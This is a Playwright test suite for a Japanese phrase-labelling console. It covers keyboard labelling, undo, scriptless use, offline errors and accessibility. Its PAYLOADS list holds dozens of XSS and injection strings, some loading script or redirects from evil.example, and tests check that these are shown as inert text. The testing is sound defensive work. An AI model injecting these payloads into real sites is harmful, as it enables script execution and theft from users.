"""Cards in a real Chromium: keys alone, without scripts, and before what people who mean harm could write."""

from __future__ import annotations

import statistics
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from flask import Flask
from playwright.sync_api import Browser, BrowserContext, Page

from catalog.model import CATEGORY_IDS
from nlu.corpus import NONE
from tests.browser.axe import Axe
from tests.support.serving import served
from web.console.keys import CATEGORY_KEYS
from web.store.judging import Judgement
from web.store.people import Person
from web.wiring import Parts

pytestmark = pytest.mark.browser
Send = Callable[..., Any]
WIDTHS = (1280, 360)


@pytest.fixture
def address(console_app: Flask) -> Iterator[str]:
    with served(console_app) as address:
        yield address


@pytest.fixture
def opened(browser: Browser, address: str, console_parts: Parts, member: Send) -> Iterator[Callable[..., Page]]:
    """A page of a person of the role who is signed in."""
    contexts: list[BrowserContext] = []

    def open_page(
        role: str | Person = "reviewer",
        *,
        scripts: bool = True,
        width: int = 1280,
        dark: bool = False,
        csp: bool = True,
    ) -> Page:
        sign_ins = console_parts.store.sign_ins
        who = role if isinstance(role, Person) else member(role)
        token = sign_ins.confirm(sign_ins.start(who.id))
        context = browser.new_context(
            java_script_enabled=scripts,
            viewport={"width": width, "height": 800},
            base_url=address,
            locale="ja-JP",
            color_scheme="dark" if dark else "light",
            bypass_csp=not csp,
            reduced_motion="reduce",
        )
        context.add_cookies([{"name": "console", "value": token, "url": address}])
        context.set_default_timeout(60_000)
        contexts.append(context)
        return context.new_page()

    yield open_page
    for context in contexts:
        context.close()


def press(page: Page, key: str) -> None:
    """Presses a key that goes to the next card, and waits for it."""
    before = page.locator('#answer input[name="phrase"]').input_value()
    page.keyboard.press(key)
    page.wait_for_function(
        "before => document.querySelector('#main').ariaBusy !== 'true'"
        " && document.querySelector('#answer input[name=phrase]')?.value !== before",
        arg=before,
    )


def test_fifty_phrases_need_hardly_more_than_a_key_each(
    opened: Callable[..., Page], phrase: Send, console_parts: Parts
) -> None:
    """Every label comes, some phrases are covered, some are of two categories, some alike, one slip is taken back."""
    labels = (*CATEGORY_IDS, NONE)
    key_of = {**dict(zip(CATEGORY_IDS, CATEGORY_KEYS, strict=True)), NONE: "n"}
    keys: dict[str, list[str]] = {}
    right: dict[str, tuple[str | None, str | None]] = {}
    for number in range(50):
        label, also = labels[number % 13], labels[(number + 1) % 12]
        changes: dict[str, Any] = {"margin": number / 100}
        strokes, wanted = [key_of[label]], (label, None)
        if number % 10 == 3:
            changes["level"] = 3
            strokes = ["v", *strokes]
        elif number % 17 == 5:
            strokes, wanted = ["t", key_of[label], key_of[also]], (label, also)
        elif number == 20:
            strokes, wanted = ["u"], (None, None)
        id = phrase(text=f"文 {number}", **changes)
        keys[id], right[id] = strokes, wanted
    page = opened()
    page.goto("/label/all")
    counted = []
    for number in range(50):
        id = page.locator('#answer input[name="phrase"]').input_value()
        strokes = keys[id]
        for stroke in strokes[:-1]:
            page.keyboard.press(stroke)
        if number == 49:
            page.keyboard.press(strokes[-1])
            page.get_by_role("heading", name="いま、見直す文はありません").wait_for()
        else:
            press(page, strokes[-1])
        counted.append(len(strokes))
    median, mean = statistics.median(counted), statistics.mean(counted)
    print(f"keystrokes a phrase: median {median}, mean {mean:.2f}")  # noqa: T201
    assert median <= 1.2
    given = {id: console_parts.store.verdicts.of_phrase(id) for id in keys}
    assert {id: (said[0].label, said[0].also) for id, said in given.items()} == right
    assert all(len(said) == 1 for said in given.values())


def test_keys_do_what_they_show(opened: Callable[..., Page], phrase: Send, console_parts: Parts) -> None:
    first = phrase(text="はじめの文", margin=0.01, cluster="a")
    mate = phrase(text="にている文", margin=0.02, cluster="a")
    second = phrase(text="つぎの文", margin=0.03)
    third = phrase(text="なぐられた話", margin=0.04, kind="dv")
    page = opened()
    page.goto("/label/all")
    found = console_parts.store.phrases.by_id
    for combination in ("Control+1", "Alt+1", "Meta+1"):
        page.keyboard.press(combination)
    page.locator(".two summary").click()
    page.locator("#label").focus()
    page.keyboard.press("1")
    assert [found(id).state for id in (first, mate, second, third)] == ["waiting"] * 4
    page.locator("h1").first.click()
    page.keyboard.press("g")
    assert page.locator('[name="together"]').is_checked()
    page.keyboard.press("?")
    assert page.locator("#keys").evaluate("keys => keys.open")
    page.locator(".two").evaluate("two => { two.open = false }")
    press(page, "3")
    assert (found(first).label, found(mate).label) == ("work", "work")
    assert "仕事・職場" in page.locator("#former").inner_text()
    press(page, "z")
    assert page.locator(".card > .phrase").inner_text() == "はじめの文"
    assert found(mate).state == "waiting"
    press(page, "s")
    press(page, "s")
    assert page.locator(".card > .phrase").inner_text() == "つぎの文"
    page.keyboard.press("t")
    page.keyboard.press("1")
    page.keyboard.press("Escape")
    press(page, "^")
    assert (found(second).label, found(second).also) == ("no-one-to-talk-to", None)
    assert not page.locator(".card .veil .phrase").is_visible()
    page.keyboard.press("1")
    page.get_by_text("文がかくれています").wait_for(state="attached")
    page.keyboard.press("v")
    assert page.locator(".card .veil .phrase").is_visible()
    page.keyboard.press("h")
    page.get_by_role("heading", name="いま、見直す文はありません").wait_for()
    assert found(third).state == "hidden"


def test_a_chosen_key_does_what_it_was_chosen_for_and_the_former_one_nothing(
    opened: Callable[..., Page], phrase: Send, console_parts: Parts, member: Send
) -> None:
    who, id = member(), phrase(text="なぐられた話", kind="dv")
    console_parts.store.settings.set(f"keys:{who.id}", {"work": "w", "unveil": "3", "two": "v"}, actor=who.id)
    page = opened(who)
    page.goto("/label/all")
    page.keyboard.press("w")
    page.get_by_text("3 で見てから").wait_for(state="attached")
    page.keyboard.press("3")
    assert page.locator(".card .veil .phrase").is_visible()
    for key in ("t", "v", "w", "5"):
        page.keyboard.press(key)
    page.get_by_role("heading", name="いま、見直す文はありません").wait_for()
    (verdict,) = console_parts.store.verdicts.of_phrase(id)
    assert (verdict.label, verdict.also) == ("work", "childcare")


def test_what_happened_is_announced_and_the_next_card_has_the_focus(opened: Callable[..., Page], phrase: Send) -> None:
    phrase(margin=0.1), phrase(margin=0.2)
    page = opened()
    page.goto("/label/all")
    press(page, "3")
    page.wait_for_function("() => document.querySelector('body > [role=status]').textContent.includes('仕事・職場')")
    assert page.evaluate("document.activeElement.id") == "card-title"


def test_keys_can_be_turned_off(opened: Callable[..., Page], phrase: Send, console_parts: Parts) -> None:
    id = phrase()
    page = opened()
    page.goto("/label/all")
    page.keyboard.press("?")
    page.locator("#keys-off").check()
    page.locator("h1").first.click()
    page.keyboard.press("1")
    page.reload()
    page.keyboard.press("1")
    assert console_parts.store.verdicts.of_phrase(id) == ()


def test_when_sending_fails_the_card_stays_and_says_so(
    opened: Callable[..., Page], phrase: Send, console_parts: Parts
) -> None:
    id = phrase()
    page = opened()
    page.goto("/label/all")
    page.context.set_offline(True)
    page.keyboard.press("1")
    page.get_by_text("送れませんでした").first.wait_for()
    page.context.set_offline(False)
    page.keyboard.press("1")
    page.get_by_role("heading", name="いま、見直す文はありません").wait_for()
    assert console_parts.store.phrases.by_id(id).label == "food-housing"


def test_after_signing_out_elsewhere_the_answer_is_not_lost(
    opened: Callable[..., Page], phrase: Send, console_parts: Parts
) -> None:
    phrase()
    page = opened()
    page.goto("/label/all")
    page.context.clear_cookies(name="console")
    page.keyboard.press("3")
    page.get_by_role("heading", name="もう一度お送りください").wait_for()
    assert page.locator('textarea[name="said"]').input_value() == "work"


def test_without_scripts_the_buttons_do_the_same(
    opened: Callable[..., Page], phrase: Send, console_parts: Parts
) -> None:
    first, second = phrase(text="はじめの文", margin=0.1), phrase(text="なぐられた話", margin=0.2, level=3)
    found = console_parts.store.phrases.by_id
    page = opened(scripts=False)
    page.goto("/queue")
    page.get_by_role("link", name="すべて", exact=True).click()
    page.get_by_text("つらい内容があるかもしれません").click()
    assert page.get_by_text("なぐられた話").is_visible()
    page.get_by_role("button", name="あとにする").click()
    page.locator(".two > summary").click()
    page.get_by_label("いちばん先に開く分類").select_option("work")
    page.get_by_label("こちらを先に開いてもよい分類").select_option("childcare")
    page.get_by_role("button", name="この二つにする").click()
    assert (found(first).label, found(first).also) == ("work", "childcare")
    page.get_by_role("button", name="もどす").click()
    assert found(first).state == "waiting"
    page.get_by_role("button", name="仕事・職場").click()
    assert found(first).label == "work"
    assert found(second).state == "waiting"


@pytest.mark.parametrize(("width", "dark"), [(1280, False), (360, True)])
def test_axe_finds_nothing_to_mend(
    *, opened: Callable[..., Page], phrase: Send, console_parts: Parts, member: Send, width: int, dark: bool
) -> None:
    ids = [phrase(text=f"会社をクビになった {number}", cluster="a", margin=number / 10) for number in range(3)]
    covered, split = phrase(kind="dv"), phrase(blind_second=True)
    lead = member("lead")
    record = console_parts.store.verdicts.record
    record(ids[0], Judgement("label", "work"), actor=lead.id, guideline_version="1", seconds=1.0)
    for label in ("work", "childcare"):
        record(split, Judgement("label", label), actor=member().id, guideline_version="1", seconds=1.0)
    page = opened(lead, width=width, dark=dark, csp=False)
    found, axe = {}, Axe()
    for path in (
        "/queue",
        f"/label/all?phrase={ids[1]}",
        f"/label/all?phrase={covered}",
        "/label/disagreements",
        "/label/random",
        "/queue/all/groups",
        "/history",
        "/bulk?state=done&to=childcare",
        "/exchange",
        "/import",
        "/keys",
        "/settings",
    ):
        page.goto(path)
        if path.startswith("/label"):
            page.locator("#main details:not([name])").evaluate_all("all => all.forEach(one => { one.open = true })")
        found[path] = axe.faults(page)[""]
    for rows in ("work,棚卸しの夜勤だけ手当てがつかない\n", "wrok,まちがい\nwork,\n"):
        page.goto("/import")
        files = {"name": "new.csv", "mimeType": "text/csv", "buffer": rows.encode()}
        page.locator("#file").set_input_files(files)
        page.get_by_role("button", name="確かめる").click()
        page.locator("#result").wait_for()
        found[rows] = axe.faults(page)[""]
    assert {place: faults for place, faults in found.items() if faults} == {}


PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</bdi></p></details></main><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img srcset=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>押す</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>押す</a>",
    "<a href='java\nscript:alert(1)'>押す</a>",
    "<a href=data:text/html,<script>alert(1)</script>>押す</a>",
    "<form action=javascript:alert(1)><button>送る</button></form>",
    "<button formaction=javascript:alert(1)>送る</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div onpointerenter=alert(1)>ここ</div>",
    "<div style=position:fixed;inset:0;background:red>全部</div>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "{{7*7}}{{config}}{% raw %}",
    "${alert(1)}#{alert(1)}<%= 7*7 %>",
    "javascript:alert(1)",
    "'-alert(1)-'",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "`;alert(1);//",
    "<x onclick=alert(1)>押す</x>",
    "＜script＞alert(1)＜/script＞",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\u202egnp.exe<script>alert(1)</script>",
    "\u2067\u2067\u202e\u202d右から左へ\u202e" * 20,
    "مرحبا שלום <b>左</b> 右 123 مرحبا",
    "死" + "\u0335\u0337\u0338\u0322\u0323\u0348\u0301\u0306" * 40 + "にたい",
    "Z" + "\u0300\u0301\u0302\u0303\u0304" * 60,
    "あ" * 3_900,
    "a" * 3_900,
    "\n" * 200 + "下",
    "﷽" * 300,
    "𒐫" * 200,
    "\u0000\u0007\u001b[31m赤<b>".replace("\u0000", ""),
)


def test_what_hostile_people_write_is_shown_and_does_nothing(
    opened: Callable[..., Page], phrase: Send, console_parts: Parts
) -> None:
    assert len(PAYLOADS) >= 60
    console_parts.store.settings.set("daily_cap", 1000, actor=None)
    for number, text in enumerate(PAYLOADS):
        phrase(text=text, margin=number / 1000, cluster=f"cluster {number // 2}")
    page = opened("lead")
    harm = _watched(page)
    page.goto("/label/all")
    for _ in range(len(PAYLOADS) - 1):
        _whole(page, *WIDTHS)
        assert page.locator(".card > .phrase").count() == 1
        press(page, "s")
    for path in ("/queue/all/groups", "/queue/all/groups?page=2", "/bulk?state=waiting&to=work"):
        page.goto(path)
        _whole(page, *WIDTHS)
    for path in ("/bulk?state=waiting&page=2", "/exchange", "/history"):
        page.goto(path)
        _whole(page, *WIDTHS)
    page.goto("/bulk?state=waiting&to=work")
    page.get_by_role("button", name="にする").click()
    _whole(page, *WIDTHS)
    for path in ("/history", "/exchange", "/bulk?state=done", "/bulk?state=done&page=2"):
        page.goto(path)
        _whole(page, *WIDTHS)
        texts = page.locator("bdi").all_text_contents()
        assert any(PAYLOADS[0] in text for text in texts) or "page=2" in path or path == "/history"
    assert harm == []


def test_a_hostile_file_is_shown_and_does_nothing(opened: Callable[..., Page]) -> None:
    page = opened("lead")
    harm = _watched(page)
    lines = "\n".join(text.replace("\n", " ") for text in PAYLOADS)
    for name in ("work.txt", "<img src=x onerror=alert(1)>.txt"):
        page.goto("/import")
        files = {"name": name, "mimeType": "text/plain", "buffer": lines.encode()}
        page.locator("#file").set_input_files(files)
        page.get_by_role("button", name="確かめる").click()
        page.get_by_role("heading", name="まだ使えません").wait_for()
        _whole(page, 1280)
    assert harm == []


def _watched(page: Page) -> list[str]:
    harm: list[str] = []
    page.on("dialog", lambda dialog: (harm.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("request", lambda request: None if "127.0.0.1" in request.url else harm.append(f"request {request.url}"))
    page.on(
        "console",
        lambda said: harm.append(f"console {said.text}") if said.type == "error" and "422" not in said.text else None,
    )
    page.on("pageerror", lambda error: harm.append(f"error {error}"))
    return harm


BROKEN = """() => {
  const all = selector => [...document.querySelectorAll(selector)];
  const scripts = all('script').map(one => new URL(one.src).pathname);
  const parts = all('iframe, object, embed, svg, img, video, audio, base, style, math, marquee');
  const run = all('[onerror], [onload], [onclick], [onfocus], [ontoggle], [autofocus]');
  const outside = all('main button, main a').filter(one => one.checkVisibility({visibilityProperty: true}))
    .map(one => one.getBoundingClientRect()).filter(box => box.width && box.height)
    .filter(box => box.left < 0 || box.right > innerWidth + 1);
  return [
    ...scripts.filter(path => path !== '/static/console-label.js'),
    ...[...parts, ...run].map(one => one.outerHTML.slice(0, 90)),
    ...(all('main').length === 1 ? [] : ['not one main']),
    ...(document.documentElement.scrollWidth > innerWidth ? ['the page scrolls sideways'] : []),
    ...outside.map(box => 'outside the screen: ' + box.left + ' to ' + box.right),
  ];
}"""


def _whole(page: Page, *widths: int) -> None:
    """Nothing of a phrase became a part of the page, and nothing runs out of it, at any of the widths."""
    page.wait_for_load_state()
    for width in widths:
        page.set_viewport_size({"width": width, "height": 800})
        assert page.evaluate("innerWidth") == width
        assert page.evaluate(BROKEN) == [], width
